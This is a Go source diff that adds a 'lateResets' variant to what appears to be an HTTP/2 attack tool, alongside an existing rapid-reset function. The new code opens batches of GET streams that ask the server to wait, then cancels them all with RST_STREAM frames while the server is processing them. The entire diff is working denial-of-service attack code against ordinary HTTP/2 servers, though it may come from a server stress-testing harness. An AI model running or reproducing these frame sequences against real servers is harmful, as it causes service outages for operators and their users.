@@ -6,6 +6,7 @@ import (
 	"io"
 	"net"
 	"strconv"
+	"time"
 
 	"golang.org/x/net/http2/hpack"
 )
@@ -72,6 +73,24 @@ func rapidResets(a *attacker) []byte {
 		id := a.id()
 		dst = appendFrame(dst, typeHeaders, flagEndHeaders|flagEndStream, id, head)
 		return appendFrame(dst, typeReset, 0, id, []byte{0, 0, 0, 8}) // CANCEL
+	})
+}
+
+// lateResets begins requests, and takes them back when servers work on them.
+func lateResets(a *attacker) (b []byte) {
+	if len(a.begun) > 0 {
+		for _, id := range a.begun {
+			b = appendFrame(b, typeReset, 0, id, []byte{0, 0, 0, 8}) // CANCEL
+		}
+		a.begun = a.begun[:0]
+		return b
+	}
+	return frames(10, func(dst []byte) []byte {
+		s := a.script("late-reset")
+		s.Wait = time.Second
+		id := a.id()
+		a.begun = append(a.begun, id)
+		return appendFrame(dst, typeHeaders, flagEndHeaders|flagEndStream, id, block("GET", s.target()))
 	})
 }
 
